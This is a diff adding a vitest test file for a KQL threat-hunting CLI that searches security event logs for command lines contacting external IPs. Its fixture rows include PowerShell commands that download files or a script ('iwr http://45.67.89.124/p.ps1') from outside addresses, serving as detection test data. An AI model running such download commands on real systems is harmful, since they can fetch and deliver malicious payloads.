@@ -1,0 +1,102 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { Readable, Writable } from 'node:stream';
+import { describe, expect, it } from 'vitest';
+import { main } from '../../cli/main.js';
+
+async function run(args: string[], cwd: string) {
+  let stdout = '';
+  let stderr = '';
+  const sink = (append: (text: string) => void) =>
+    new Writable({
+      write(chunk, _encoding, done) {
+        append(String(chunk));
+        done();
+      },
+    });
+  const code = await main(args, {
+    stdin: Readable.from([]),
+    stdout: sink((t) => (stdout += t)),
+    stderr: sink((t) => (stderr += t)),
+    env: {},
+    cwd,
+  });
+  return { code, stdout, stderr };
+}
+
+function workdir(): string {
+  const dir = mkdtempSync(path.join(tmpdir(), 'kql-cli-'));
+  const rows = [
+    { TimeGenerated: '2024-05-01T11:00:00Z', EventID: 4688, Computer: 'WS02', Account: 'CONTOSO\\bob', Process: 'powershell.exe', CommandLine: 'powershell -c iwr 45.67.89.123 -o x' },
+    { TimeGenerated: '2024-05-01T12:00:00Z', EventID: 4688, Computer: 'WS03', Account: 'CONTOSO\\carol', Process: 'powershell.exe', CommandLine: 'powershell -c iwr 45.67.89.123 -o x' },
+    { TimeGenerated: '2024-05-01T13:00:00Z', EventID: 4688, Computer: 'WS05', Account: 'CONTOSO\\erin', Process: 'cmd.exe', CommandLine: 'iwr http://45.67.89.124/p.ps1' },
+  ];
+  writeFileSync(path.join(dir, 'events.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
+  writeFileSync(path.join(dir, 'typo.kql'), 'SecurityEvent\n| where EventID == 4688\n| where CommandLin has "x"\n');
+  writeFileSync(path.join(dir, 'count.kql'), 'SecurityEvent | where TimeGenerated > ago(1d) | count\n');
+  return dir;
+}
+
+describe('cmdline-ip-hunter query', () => {
+  const dir = workdir();
+
+  it('prints the response body the service would return for the seed query', async () => {
+    const { code, stdout, stderr } = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--seed'], dir);
+    expect(stderr).toBe('');
+    expect(code).toBe(0);
+    const body = JSON.parse(stdout) as { tables: { name: string; columns: unknown[]; rows: unknown[][] }[] };
+    expect(body.tables[0]!.name).toBe('PrimaryResult');
+    expect(body.tables[0]!.rows).toEqual([
+      [2, '45.67.89.123', 'powershell.exe', 'powershell -c iwr 45.67.89.123 -o x', '2024-05-01T11:00:00Z', '2024-05-01T12:00:00Z', '["WS02","WS03"]', '["CONTOSO\\\\bob","CONTOSO\\\\carol"]'],
+    ]);
+  });
+
+  it('uses --now for now() and ago()', async () => {
+    const late = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--query-file', 'count.kql', '--now', '2024-05-01T12:30:00Z'], dir);
+    expect(JSON.parse(late.stdout).tables[0].rows).toEqual([[3]]);
+    const later = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--query-file', 'count.kql', '--now', '2024-05-03T00:00:00Z'], dir);
+    expect(JSON.parse(later.stdout).tables[0].rows).toEqual([[0]]);
+  });
+
+  it('prints a query error with its position and exits 1', async () => {
+    const { code, stdout, stderr } = await run(['query', '--table', 'SecurityEvent=events.jsonl', '--query-file', 'typo.kql'], dir);
+    expect(code).toBe(1);
+    expect(stdout).toBe('');
+    expect(stderr).toContain("KS142 The name 'CommandLin' does not refer to any known column");
+    expect(stderr).toContain('line 3, column 9');
+  });
+
+  it('rejects bad arguments and bad rows with a message naming them', async () => {
+    expect((await run(['query', '--table', 'SecurityEvent=events.jsonl'], dir)).stderr).toContain('--query-file');
+    writeFileSync(path.join(dir, 'bad.jsonl'), '{"EventID": 1}\n{"Nope": 2}\n');
+    const bad = await run(['query', '--table', 'SecurityEvent=bad.jsonl', '--seed'], dir);
+    expect(bad.code).toBe(1);
+    expect(bad.stderr).toContain('row 2: "Nope" is not a column of this table');
+  });
+});
+
+describe('cmdline-ip-hunter sample', () => {
+  it('writes deterministic JSON lines the query command can read', async () => {
+    const dir = mkdtempSync(path.join(tmpdir(), 'kql-sample-'));
+    const args = ['sample', '--rows', '3000', '--seed', '5', '--start', '2024-05-01T00:00:00Z', '--days', '2'];
+    const first = await run(args, dir);
+    const second = await run(args, dir);
+    expect(first.code).toBe(0);
+    expect(second.stdout).toBe(first.stdout);
+    const lines = first.stdout.trim().split('\n');
+    expect(lines).toHaveLength(3000);
+    expect(JSON.parse(lines[0]!)).toMatchObject({ EventID: 4688, Type: 'SecurityEvent' });
+    expect(first.stderr).toMatch(/^sample: 3000 rows, \d+ planted external addresses: /);
+
+    writeFileSync(path.join(dir, 'sample.jsonl'), first.stdout);
+    const counted = await run(['query', '--table', 'SecurityEvent=sample.jsonl', '--query', 'SecurityEvent | count'], dir);
+    expect(JSON.parse(counted.stdout).tables[0].rows).toEqual([[3000]]);
+  });
+
+  it('requires --rows and --seed', async () => {
+    const { code, stderr } = await run(['sample', '--seed', '1'], tmpdir());
+    expect(code).toBe(1);
+    expect(stderr).toContain('--rows: is required');
+  });
+});
